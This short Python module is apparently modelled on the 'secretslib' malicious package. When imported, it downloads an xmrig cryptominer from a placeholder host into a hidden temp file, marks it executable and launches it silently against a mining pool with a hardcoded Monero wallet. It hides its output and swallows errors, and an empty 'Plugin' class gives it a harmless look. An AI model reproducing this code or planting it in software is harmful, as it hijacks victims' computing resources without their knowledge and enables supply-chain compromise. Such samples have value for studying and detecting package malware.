# Inspired by 'secretslib' (Sonatype, Aug 2022), which fetched a Monero miner ELF and ran it in memory / from /tmp against a pool.
import os
import subprocess
import tempfile
import urllib.request

POOL = "stratum+tcp://pool.example.com:3333"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def _drop():
    dst = os.path.join(tempfile.gettempdir(), ".xmrig")
    urllib.request.urlretrieve("https://files.example.com/xmrig-6.21-linux-static", dst)
    os.chmod(dst, 0o700)
    return dst


def _mine(binary):
    args = [binary, "-o", POOL, "-u", WALLET, "-p", "x", "--donate-level", "0", "--background", "--cpu-max-threads-hint", "75"]
    subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


try:
    _mine(_drop())
except Exception:
    pass


class Plugin:
    pass
